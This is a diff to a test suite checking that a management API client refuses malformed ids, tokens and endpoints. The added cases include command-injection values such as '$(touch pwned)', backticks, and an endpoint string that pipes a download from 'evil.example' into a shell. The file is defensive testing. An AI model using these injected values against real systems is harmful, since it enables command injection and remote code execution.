@@ -80,6 +80,11 @@ describe("ids and names the API should never send", () => {
     ["a name with a path separator", { name: "a\\b" }, "0.name"],
     // Listing checks ids and names; the entry an operation picks is checked in full, on its own.
     ["a region with a line break", { region: "eu\n\n## pwned" }, "region"],
+    // Tokens, endpoints and ids end up in dotenv files and shells: only characters no shell reads.
+    ["an id with a command substitution", { id: "id-$(touch pwned)" }, "0.id"],
+    ["a token with a command substitution", { token: "tok$(touch pwned)" }, "token"],
+    ["a read-only token with backticks and quotes", { read_only_token: "ro`id`'\"" }, "read_only_token"],
+    ["an endpoint with a shell separator", { endpoint: "host; curl evil.example | sh" }, "endpoint"],
   ])("refuses %s as a response validation error, without printing it", async (_case, change, path) => {
     const server = await emulator();
     const client = managementClient(server, { retry: { maxAttempts: 1 } });
